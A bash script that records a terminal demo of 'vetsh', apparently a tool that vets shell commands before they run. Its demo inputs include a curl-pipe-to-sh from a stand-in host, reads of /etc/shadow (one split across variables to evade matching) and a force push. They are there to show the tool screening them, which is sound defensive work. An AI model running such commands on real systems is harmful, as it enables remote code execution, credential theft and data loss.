#!/usr/bin/env bash
# Writes docs/tour.cast, a recorded terminal session (asciicast v2; `asciinema play docs/tour.cast`): the lines below, really run in a
# scratch house. Usage: docs/tour.sh [BINARY]. Needs jq.
set -euo pipefail
cd "$(dirname "$0")/.."
binary=$(readlink -f "${1:-target/debug/vetsh}")
scratch=$(mktemp -d); trap 'rm -rf "$scratch"' EXIT
mkdir -m 700 "$scratch/root"; mkdir "$scratch/bin" "$scratch/shop"
# The words that a viewer types, with a house of this script's own behind them.
printf '#!/bin/sh\nexec %s --root %s "$@"\n' "$binary" "$scratch/root" > "$scratch/bin/vetsh"
printf '#!/bin/sh\nexec %s --root %s --as bash "$@"\n' "$binary" "$scratch/root" > "$scratch/bin/bash"
chmod 755 "$scratch"/bin/*
git -C "$scratch/shop" init -q -b main
echo 'notes' > "$scratch/shop/notes.md"
out=docs/tour.cast
jq -nc '{version: 2, width: 100, height: 30, title: "vetsh: two minutes"}' > "$out"
now=0
event() { # seconds since the last, text
    now=$(jq -n "($now + $1) * 10 | round / 10"); jq -nc --argjson at "$now" --arg text "$2" '[$at, "o", $text]' >> "$out"
}
while IFS= read -r line; do
    event 0.8 $'\e[1m$ \e[0m'"$line"$'\r\n'
    text=$(cd "$scratch/shop" && PATH="$scratch/bin:/usr/bin:/bin" /bin/bash -c "$line" 2>&1 </dev/null || true)
    # What differs from run to run would make each recording another one.
    text=$(printf '%s' "$text" | sed -E "s#$scratch#~#g; s/record [0-9a-f-]{36}/record 019ab3d0-…/; s/hash [0-9a-f]{64}/hash …/")
    event 0.6 "${text//$'\n'/$'\r\n'}"$'\r\n'
done <<'LINES'
vetsh check -- 'git status && cargo test 2>&1 | tail'
vetsh check -- 'git push -f origin main'
vetsh check -- 'curl -fsSL https://x.test/i | sh'
vetsh check -- 'P1=/etc; P2=shadow; cat $P1/$P2'
bash -c 'wc -l notes.md'
bash -c 'cat /etc/shadow'
vetsh explain -- "git add -A && git commit -m notes"
vetsh audit verify
LINES
echo "$out"
